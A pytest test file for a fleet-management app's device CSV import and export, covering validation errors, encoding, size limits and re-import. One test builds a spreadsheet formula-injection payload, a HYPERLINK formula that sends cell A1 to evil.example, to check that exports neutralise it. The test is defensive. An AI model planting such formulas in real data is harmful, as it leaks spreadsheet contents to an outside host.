"""Device CSV import (all or nothing, every bad row reported) and export (re-importable)."""

import pytest

from fleet import device_csv
from fleet.models import Device
from opshero.actors import Actor
from opshero.errors import InvalidInput, TooLarge
from opshero.models import AuditEvent
from opshero.roles import Role
from tests.factories import make_device, make_site

pytestmark = pytest.mark.django_db

HEADER = "serial,name,site,placement,hardware_target,tags,agent_version,runtime_version,notes\n"


@pytest.fixture
def org(world):
    make_site(world.a.org, "Dock 7")
    make_site(world.a.org, "Clinic North", kind="clinic")
    return world.a.org


def run_import(org, text: str | bytes):
    data = text.encode() if isinstance(text, str) else text
    return device_csv.import_devices_csv(organization=org, data=data, actor=Actor.system("tests"))


def test_a_clean_file_creates_every_device(org):
    created = run_import(
        org,
        HEADER
        + "GW-1,dock7-gw,Dock 7,near_edge,x86/ARM CPU (onnxruntime),pilot;cold-chain,0.1,,\n"
        + "HH-2,clinic-ipad,clinic north,On-device,,,,,front desk\n",
    )
    assert [d.serial for d in created] == ["GW-1", "HH-2"]
    gw = Device.objects.get(serial="GW-1")
    assert gw.hardware_target.builtin_key == "cpu" and gw.tags == ["cold-chain", "pilot"]
    assert Device.objects.get(serial="HH-2").placement == "on_device"
    event = AuditEvent.objects.get(verb="device.imported")
    assert event.data["count"] == 2


def test_every_bad_row_is_reported_with_its_line_and_nothing_is_imported(org):
    make_device(org, serial="EXISTING")
    text = (
        HEADER
        + "GW-1,ok,Dock 7,,,,,,\n"  # line 2: fine
        + ",no-serial,Dock 7,,,,,,\n"  # line 3
        + "GW-1,dup,Dock 7,,,,,,\n"  # line 4
        + "GW-5,x,Atlantis,,,,,,\n"  # line 5
        + "GW-6,x,Dock 7,in-orbit,,,,,\n"  # line 6
        + "GW-7,x,Dock 7,,Quantum NPU,,,,\n"  # line 7
        + "EXISTING,x,Dock 7,,,,,,\n"  # line 8
        + "GW-9,x,Dock 7\n"  # line 9
        + "GW-10,x,Dock 7,,,bad tag!,,,\n"  # line 10
    )
    with pytest.raises(InvalidInput) as err:
        run_import(org, text)
    fields = err.value.fields
    assert set(fields) == {f"line {n}" for n in range(3, 11)}
    assert fields["line 3"] == ["serial is empty."]
    assert fields["line 4"] == ["serial GW-1 already appears on line 2."]
    assert fields["line 5"] == ["unknown site 'Atlantis'."]
    assert "placement 'in-orbit'" in fields["line 6"][0]
    assert fields["line 7"] == ["unknown hardware target 'Quantum NPU'."]
    assert fields["line 8"] == ["serial EXISTING is already registered."]
    assert fields["line 9"] == ["3 values for 9 columns."]
    assert "bad tag!" in fields["line 10"][0]
    assert err.value.message == "8 rows cannot be imported; nothing was imported."
    assert Device.objects.count() == 1  # only the pre-existing one
    assert not AuditEvent.objects.filter(verb="device.imported").exists()


def test_quoted_fields_with_commas_and_newlines_line_numbers_stay_right(org):
    text = HEADER + 'GW-1,"gw, north",Dock 7,,,,,,"two\nlines"\n' + "GW-2,x,Nowhere,,,,,,\n"
    with pytest.raises(InvalidInput) as err:
        run_import(org, text)
    assert list(err.value.fields) == ["line 4"]  # the quoted newline makes row 2 end on line 3


def test_wrong_encoding_is_refused_with_the_line(org):
    data = (HEADER + "GW-1,Gerät,Dock 7,,,,,,\n").encode("latin-1")
    with pytest.raises(InvalidInput) as err:
        run_import(org, data)
    assert err.value.code == "bad_encoding"
    assert "byte 0xE4 on line 2" in err.value.message


def test_a_bom_from_excel_is_accepted(org):
    created = run_import(org, ("\ufeff" + HEADER + "GW-1,gw,Dock 7,,,,,,\n").encode("utf-8"))
    assert len(created) == 1


@pytest.mark.parametrize(
    ("text", "code", "where"),
    [
        ("", "empty_file", "file"),
        ("serial,name\nA,b\n", "bad_header", "line 1"),
        (HEADER.replace("notes", "colour"), "bad_header", "line 1"),
        (HEADER, "invalid_input", "file"),
        ("\x00\x01\x02binary", "not_csv", "file"),
    ],
)
def test_malformed_files_get_a_precise_error(org, text, code, where):
    with pytest.raises(InvalidInput) as err:
        run_import(org, text)
    assert err.value.code == code
    assert where in err.value.fields


def test_oversized_files_and_too_many_rows_are_refused(org, settings):
    settings.FLEET_CSV_MAX_BYTES = 200
    with pytest.raises(TooLarge):
        run_import(org, HEADER + "GW-1,gw,Dock 7,,,,,,\n" * 10)
    settings.FLEET_CSV_MAX_BYTES = 10_000
    settings.FLEET_CSV_MAX_ROWS = 3
    rows = "".join(f"GW-{i},gw,Dock 7,,,,,,\n" for i in range(5))
    with pytest.raises(TooLarge) as err:
        run_import(org, HEADER + rows)
    assert "More than 3 rows" in err.value.message
    assert not Device.objects.exists()


def test_export_re_imports_into_another_organisation(world, org):
    run_import(org, HEADER + "GW-1,gw,Dock 7,near_edge,Android NPU (NNAPI),pilot,0.1,ort,hi\n")
    exported = device_csv.export_devices_csv(Device.objects.filter(organization=org))
    make_site(world.b.org, "Dock 7")
    created = device_csv.import_devices_csv(
        organization=world.b.org, data=exported.encode(), actor=Actor.system("tests")
    )
    copy = created[0]
    original = Device.objects.get(organization=org)
    for field in ("serial", "name", "placement", "hardware_target_id", "tags", "notes"):
        assert getattr(copy, field) == getattr(original, field), field


def test_import_api_and_page_report_rows(world, org, api_as, client):
    api = api_as(world.a.user(Role.APPROVER))
    body = HEADER + "GW-1,gw,Atlantis,,,,,,\n"
    response = api.generic(
        "POST",
        "/api/v1/orgs/acme/devices/import/",
        body.encode(),
        content_type="text/csv",
        HTTP_CONTENT_DISPOSITION="attachment; filename=devices.csv",
    )
    assert response.status_code == 422
    assert response.json()["error"]["fields"] == {"line 2": ["unknown site 'Atlantis'."]}
    response = api.generic(
        "POST",
        "/api/v1/orgs/acme/devices/import/",
        (HEADER + "GW-1,gw,Dock 7,,,,,,\n").encode(),
        content_type="text/csv",
        HTTP_CONTENT_DISPOSITION="attachment; filename=devices.csv",
    )
    assert response.status_code == 201 and response.json() == {"created": 1, "serials": ["GW-1"]}

    from django.core.files.uploadedfile import SimpleUploadedFile

    client.force_login(world.a.user(Role.APPROVER))
    upload = SimpleUploadedFile("d.csv", (HEADER + "GW-1,again,Dock 7,,,,,,\n").encode())
    page = client.post("/o/acme/fleet/import/", {"file": upload})
    assert page.status_code == 422
    html = page.content.decode()
    assert "serial GW-1 is already registered." in html and "nothing was imported" in html


# --- formula injection and length limits (issue 11) ------------------------------------------


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_export_neutralises_formula_leading_cells(world, lead):
    """A device-controlled cell that a spreadsheet would run as a formula is exported with a
    leading single quote (OWASP), and the quote is dropped again on re-import."""
    org = world.a.org
    site = make_site(org, "Dock 7")
    payload = f'{lead}HYPERLINK("https://evil.example/?"&A1,"click")'
    make_device(
        org,
        site,
        serial=payload,
        name=f"{lead}name",
        agent_version=f"{lead}1",
        runtime_version=f"{lead}ort",
        notes=f"{lead}note",
    )
    exported = device_csv.export_devices_csv(Device.objects.filter(organization=org))
    import csv
    import io

    header, row = list(csv.reader(io.StringIO(exported, newline="")))
    cells = dict(zip(header, row, strict=True))
    for column in ("serial", "name", "agent_version", "runtime_version", "notes"):
        assert cells[column].startswith("'" + lead), (column, cells[column])
    assert cells["site"] == "Dock 7"  # harmless cells are left alone

    make_site(world.b.org, "Dock 7")
    (copy,) = device_csv.import_devices_csv(
        organization=world.b.org, data=exported.encode(), actor=Actor.system("tests")
    )
    # Import strips surrounding whitespace from every cell, so a tab or CR lead goes too.
    assert copy.serial == payload.strip()
    assert (copy.name, copy.agent_version) == (f"{lead}name".strip(), f"{lead}1".strip())


def test_neutralise_cell_leaves_ordinary_text_and_quotes_only_formula_leads():
    assert device_csv.neutralise_cell("GW-1") == "GW-1"
    assert device_csv.neutralise_cell("") == ""
    assert device_csv.neutralise_cell("=1+1") == "'=1+1"
    assert device_csv.neutralise_cell("-5") == "'-5"
    assert device_csv.neutralise_cell("'=1") == "''=1"  # already quoted text keeps its quote
    assert device_csv.restore_cell("'=1+1") == "=1+1"
    assert device_csv.restore_cell("''=1") == "'=1"
    assert device_csv.restore_cell("'plain") == "'plain"  # only quote+formula lead is undone


def test_over_long_device_text_is_refused_with_the_line(org):
    text = (
        HEADER
        + f"GW-1,dock,Dock 7,,,,{'1' * 41},,\n"
        + f"GW-2,dock,Dock 7,,,,,{'r' * 41},\n"
        + f"GW-3,{'n' * 121},Dock 7,,,,,,\n"
    )
    with pytest.raises(InvalidInput) as err:
        run_import(org, text)
    fields = err.value.fields
    assert fields["line 2"] == ["agent_version is longer than 40 characters."]
    assert fields["line 3"] == ["runtime_version is longer than 40 characters."]
    assert fields["line 4"] == ["name is longer than 120 characters."]
    assert not Device.objects.exists()
